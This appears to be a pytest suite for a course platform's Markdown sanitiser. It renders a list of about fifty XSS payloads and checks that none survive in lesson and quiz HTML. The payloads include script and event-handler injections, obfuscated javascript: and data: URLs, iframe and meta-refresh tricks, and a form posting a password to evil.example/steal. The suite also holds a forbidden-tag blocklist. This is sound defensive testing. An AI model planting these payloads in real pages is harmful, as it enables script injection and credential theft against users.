"""Trainer Markdown is untrusted: injections never survive rendering, the allowed features do.

Checked twice: through ``render_markdown`` directly, and through a real import (lesson HTML
stored in the database, the lesson page a learner sees, and the stored quiz HTML).
"""
from __future__ import annotations

import re
import shutil
from html.parser import HTMLParser
from pathlib import Path

import pytest
from sqlalchemy import select

from lms.extensions import db
from lms.markdown_html import ALLOWED_TAGS, render_inline, render_markdown
from lms.plugins.courses.models import Lesson, Question
from lms.plugins.courses.services import import_courses

FIXTURES = Path(__file__).resolve().parent.parent / "fixtures" / "courses"
SLUG = "aman"
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00\x00,\x00\x00\x00\x00" \
      b"\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"

INJECTIONS = {
    "script": "<script>alert(1)</script>",
    "script-inline": "Teks <script>alert(1)</script> biasa.",
    "script-uppercase": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-quoted": '<img src="gambar/ikon.gif" alt="a" onerror="alert(1)">',
    "a-javascript": '<a href="javascript:alert(1)">klik</a>',
    "a-javascript-mixed-case": '<a href="JaVaScRiPt:alert(1)">klik</a>',
    "a-javascript-entity": '<a href="&#106;avascript:alert(1)">klik</a>',
    "a-javascript-hex-entity": '<a href="&#x6A;&#x61;vascript&#x3A;alert(1)">klik</a>',
    "a-javascript-colon-entity": '<a href="javascript&colon;alert(1)">klik</a>',
    "a-javascript-tab-entity": '<a href="jav&#x09;ascript:alert(1)">klik</a>',
    "a-javascript-leading-space": '<a href="  javascript:alert(1)">klik</a>',
    "a-vbscript": '<a href="vbscript:msgbox(1)">klik</a>',
    "a-data-html": '<a href="data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;">klik</a>',
    "a-data-base64": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">klik</a>',
    "img-data": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "md-img-data": "![gambar](data:image/png;base64,iVBORw0KGgo=)",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-onload": "<svg onload=alert(1)><circle r=5 /></svg>",
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "object": '<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "style-tag": "<style>body { display: none }</style>",
    "style-attribute": '<p style="position:fixed;top:0;left:0;width:100%">menutupi halaman</p>',
    "style-on-span": 'Teks <span style="color:red">merah</span>.',
    "form": '<form action="https://evil.example/steal" method="post"><input type=text name=password>'
            '<button>Kirim</button></form>',
    "input-text": '<input type="text" name="q" value="x">',
    "nested-script": "<scr<script>ipt>alert(1)</script>",
    "double-open": "<<script>alert(1)//<</script>",
    "unclosed-bold": "<b onclick=alert(1)>tidak ditutup",
    "unclosed-div": '<div onmouseover="alert(1)">tidak ditutup',
    "img-no-close": "<img src=x onerror=alert(1)",
    "md-link-javascript": "[x](javascript:alert(1))",
    "md-link-javascript-upper": "[x](JAVASCRIPT:alert(1))",
    "md-link-javascript-entity": "[x](&#106;avascript:alert(1))",
    "md-link-angle": "[x](<javascript:alert(1)>)",
    "md-reference-javascript": "[x][jahat]\n\n[jahat]: javascript:alert(1)",
    "md-image-javascript": "![x](javascript:alert(1))",
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "base-href": '<base href="https://evil.example/">',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "math-xlink": '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    "a-onmouseover": '<a href="#bagian" onmouseover="alert(1)">arah</a>',
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>s</summary>isi</details>",
    "page-id-clash": '<div id="main">menyaru</div>\n\n<h2 id="main">judul</h2>',
}
FORBIDDEN_TAGS = ("<script", "<iframe", "<object", "<embed", "<svg", "<style", "<form", "<meta", "<base",
                  "<link", "<math", "<button", "<textarea", "<select")
TAG_RE = re.compile(r"<[^>]*>")


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def parse_tags(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector.tags


def assert_safe(html: str, *, allowed_tags=ALLOWED_TAGS) -> None:
    """No dangerous tag, attribute or URL: checked on the text and on the parsed tags."""
    lowered = html.lower()
    for tag in FORBIDDEN_TAGS:
        assert tag not in lowered, f"{tag} survived in {html!r}"
    tags_text = " ".join(TAG_RE.findall(html)).lower()  # escaped text (&lt;...) is harmless, tags are not
    assert not re.search(r"\son\w+\s*=", tags_text), html
    for needle in ("javascript:", "vbscript:", "data:", "style=", "srcdoc", "http-equiv", 'type="text"'):
        assert needle not in tags_text, f"{needle} survived in {html!r}"
    for tag, attrs in parse_tags(html):
        assert tag in allowed_tags, f"tag <{tag}> survived in {html!r}"
        for name, value in attrs:
            assert not name.startswith("on") and name != "style", html
            if name in ("href", "src"):
                plain = re.sub(r"[\s\x00-\x1f]", "", value or "").lower()
                assert plain.startswith(("#", "/courses/", "https://", "http://", "mailto:")), (name, value)
            if name == "id":
                assert (value or "").startswith(("h-", "fn:", "fnref")), f"id={value!r} survived"
        if tag == "input":
            names = dict(attrs)
            assert names.get("type") in (None, "checkbox") and "disabled" in names, html


def resolve(url: str) -> str | None:
    """Like the import's resolver: only files of the course get a URL."""
    return f"/courses/{SLUG}/files/{url}" if url in ("gambar/ikon.gif", "data.csv") else None


@pytest.mark.parametrize("name", sorted(INJECTIONS))
def test_injection_is_removed_by_render_markdown(name):
    html = render_markdown(INJECTIONS[name], resolve)
    assert_safe(html)
    assert_safe(render_markdown(INJECTIONS[name]))  # no resolver: relative URLs are dropped, not kept
    assert_safe(render_inline(INJECTIONS[name], resolve))


def test_all_injections_together_are_removed():
    document = "\n\n".join(INJECTIONS.values())
    assert_safe(render_markdown(document, resolve))
    assert_safe(render_markdown(document.replace("\n\n", "\n"), resolve))  # no paragraph breaks either


def test_harmless_parts_of_injections_are_kept_as_text_or_safe_markup():
    assert render_markdown(INJECTIONS["img-no-close"]) == "<p>&lt;img src=x onerror=alert(1)</p>"
    assert "klik" in render_markdown(INJECTIONS["a-javascript-entity"])
    link = render_markdown(INJECTIONS["a-onmouseover"])
    assert 'href="#bagian"' in link and "arah" in link
    image = render_markdown(INJECTIONS["img-onerror-quoted"], resolve)
    assert f'src="/courses/{SLUG}/files/gambar/ikon.gif"' in image and 'alt="a"' in image
    assert "menutupi halaman" in render_markdown(INJECTIONS["style-attribute"])
    assert "<script" not in render_markdown("```html\n<script>alert(1)</script>\n```")
    assert "&lt;script&gt;" in render_markdown("```html\n<script>alert(1)</script>\n```")


FEATURES = """## Tabel dan catatan

| Ruas | Isi |
|:-----|----:|
| 245  | Judul |

!!! tip "Kiat"
    Hafalkan 1XX, 245, 6XX.

??? note "Lihat jawaban"
    Ruas 245.

<details><summary>Ringkasan</summary>Isi lipatan.</details>

### Catatan kaki

Katalogisasi deskriptif[^1].

[^1]: Menurut RDA.

- [x] selesai
- [ ] belum

```python
print("<b>245</b>")
```

![Ikon](gambar/ikon.gif "Ikon")
![Hilang](gambar/hilang.gif)
![Luar](https://example.org/luar.png)

Unduh [data](data.csv) atau buka [situs](https://example.org/) dan [surat](mailto:tim@example.org).

*[RDA]: Resource Description and Access
RDA dipakai.
"""


def assert_features(html: str, *, with_missing_image: bool = True) -> None:
    assert "<table>" in html and "<th" in html and "<td" in html and "Judul" in html
    assert re.search(r'<th[^>]*align="left"', html)  # alignment survives as an attribute, not a style
    assert '<div class="admonition tip">' in html and '<p class="admonition-title">Kiat</p>' in html
    assert '<details class="note">' in html and "<summary>Lihat jawaban</summary>" in html
    assert "<details><summary>Ringkasan</summary>" in html
    assert '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1"' in html
    assert '<div class="footnote">' in html and '<li id="fn:1">' in html
    assert '<ul class="task-list">' in html and '<li class="task-list-item">' in html
    checkboxes = re.findall(r"<input[^>]*>", html)
    assert len(checkboxes) == 2 and all('type="checkbox"' in c and 'disabled="disabled"' in c for c in checkboxes)
    assert sum("checked" in c for c in checkboxes) == 1
    assert '<pre><code>print("&lt;b&gt;245&lt;/b&gt;")' in html  # plain code, no per-token spans
    assert 'class=""' not in html
    assert '<h2 id="h-tabel-dan-catatan">' in html and '<h3 id="h-catatan-kaki">' in html
    image = re.search(r'<img[^>]*alt="Ikon"[^>]*>', html).group(0)
    assert f'src="/courses/{SLUG}/files/gambar/ikon.gif"' in image and 'loading="lazy"' in image
    if with_missing_image:
        missing = re.search(r'<img[^>]*alt="Hilang"[^>]*>', html).group(0)
        assert "src=" not in missing  # an unknown relative file is never linked
    assert 'src="https://example.org/luar.png"' in html
    assert f'href="/courses/{SLUG}/files/data.csv"' in html
    assert 'href="https://example.org/" rel="noopener noreferrer nofollow"' in html
    assert 'href="mailto:tim@example.org"' in html
    assert '<abbr title="Resource Description and Access">RDA</abbr>' in html


def test_allowed_features_survive_render_markdown():
    html = render_markdown(FEATURES, resolve)
    assert_features(html)
    assert_safe(html)


# --- through a real import and the learner's lesson page ---

QUIZ = """```quiz
id: aman-1

Pilih <script>alert(1)</script> yang benar. <img src=x onerror=alert(1)> [x](javascript:alert(1))

- [x] 245 <b onclick=alert(1)>judul</b>
  > <a href="javascript:alert(1)">benar</a>
- [ ] <iframe src="https://evil.example/"></iframe>100

> <svg onload=alert(1)></svg>Umpan balik <span style="color:red">umum</span>.
```

```quiz
id: aman-2

Jodohkan.

- <script>alert(1)</script>245 -> <img src=x onerror=alert(1)>Judul
- 100 -> Nama orang
- -> <a href="data:text/html,x">pengecoh</a>
```

```quiz
id: aman-3

Urutkan.

1. <style>*{}</style>satu
2. <b style="color:red">dua</b>
```
"""


@pytest.fixture
def unsafe_course(app, tmp_path) -> Path:
    """A course whose lessons hold every injection (one lesson) and every feature (another)."""
    root = tmp_path / "courses"
    (root / SLUG / "gambar").mkdir(parents=True)
    for name in ("topics.yml", "competencies.yml"):
        shutil.copy(FIXTURES / name, root / name)
    (root / SLUG / "gambar" / "ikon.gif").write_bytes(GIF)
    (root / SLUG / "data.csv").write_text("ruas,isi\n245,judul\n", encoding="utf-8")
    (root / SLUG / "course.md").write_text(
        "---\ntitle: Kursus Aman\ntopic: cataloguing\nsummary: Uji sanitasi.\nversion: \"1\"\njp: 1\n"
        "competencies: [cat-marc]\n---\nPengantar <script>alert(1)</script> <a href=\"javascript:x()\">a</a>.\n",
        encoding="utf-8")
    # `[x](&#106;avascript:...)` looks like a relative file to `check` (refused there), so it is left out here
    injections = "\n\n".join(v for k, v in INJECTIONS.items() if k != "md-link-javascript-entity")
    features = FEATURES.split("\n", 2)[2].replace("![Hilang](gambar/hilang.gif)\n", "")  # check refuses it
    module = ("---\ntitle: Keamanan\nobjectives: [Menguji.]\ncompetencies: [cat-marc]\nminutes: 10\n---\n"
              f"Pembuka <img src=x onerror=alert(1)>.\n\n## Fitur\n\n{features}\n"
              f"## Serangan\n\n{injections}\n\n## Kuis\n\n{QUIZ}")
    (root / SLUG / "01-keamanan.md").write_text(module, encoding="utf-8")
    report = import_courses([root])
    assert report.ok, report.problems
    return root


def _prose(page: str) -> str:
    match = re.search(r'<div class="prose">(.*)</div>\s*</article>', page, re.S)
    assert match, page
    return match.group(1)


def test_imported_lessons_are_sanitised_and_keep_their_features(unsafe_course):
    lessons = {lesson.slug: lesson for lesson in db.session.scalars(select(Lesson))}
    assert set(lessons) == {"fitur", "serangan"}
    attack = lessons["serangan"].html
    assert_safe(attack)
    assert "menutupi halaman" in attack and "klik" in attack  # the text stays, the danger goes
    features = lessons["fitur"].html
    assert_safe(features)
    # the lesson heading is the page title; its sub-headings keep their h- ids
    assert_features('<h2 id="h-tabel-dan-catatan">Tabel dan catatan</h2>' + features, with_missing_image=False)
    assert lessons["fitur"].toc[0] == ["h-catatan-kaki", "Catatan kaki"]


def test_imported_quiz_html_is_sanitised(unsafe_course):
    questions = {q.qid: q for q in db.session.scalars(select(Question))}
    single = questions["aman-1"]
    parts = [single.stem_html, single.feedback_html]
    parts += [o["html"] for o in single.data["options"]] + [o["feedback_html"] for o in single.data["options"]]
    matching = questions["aman-2"].data
    parts += [side for pair in matching["pairs"] for side in pair] + matching["distractors"]
    parts += questions["aman-3"].data["items"]
    for html in parts:
        assert_safe(html)
    assert "<b>judul</b>" in single.data["options"][0]["html"]
    assert "Umpan balik" in single.feedback_html and "umum" in single.feedback_html
    assert "<b>dua</b>" in questions["aman-3"].data["items"][1]


def test_lesson_pages_served_to_learners_are_safe(unsafe_course, client_as):
    reader = client_as("librarian")
    for lesson in ("fitur", "serangan"):
        response = reader.get(f"/courses/{SLUG}/keamanan/{lesson}")
        assert response.status_code == 200
        page = response.get_data(as_text=True)
        assert "<script" not in page.lower() and "<iframe" not in page.lower()
        tags = " ".join(TAG_RE.findall(page)).lower()
        assert not re.search(r"\son\w+\s*=", tags)
        assert "javascript:" not in tags and "data:" not in tags and "style=" not in tags
        assert_safe(_prose(page))
        assert page.count('id="main"') == 1  # trainer HTML cannot reuse the page's own ids
    features = _prose(reader.get(f"/courses/{SLUG}/keamanan/fitur").get_data(as_text=True))
    assert re.search(rf'<img[^>]+src="/courses/{SLUG}/files/gambar/ikon.gif"[^>]*loading="lazy"', features)
    assert '<div class="admonition tip">' in features and "<table>" in features
    assert reader.get(f"/courses/{SLUG}/files/gambar/ikon.gif").data == GIF


def test_course_and_module_intro_are_sanitised(unsafe_course, client_as):
    reader = client_as("librarian")
    for url in (f"/courses/{SLUG}/", f"/courses/{SLUG}/keamanan/"):
        page = reader.get(url).get_data(as_text=True)
        tags = " ".join(TAG_RE.findall(page)).lower()
        assert "<script" not in page.lower() and "javascript:" not in tags and not re.search(r"\son\w+\s*=", tags)
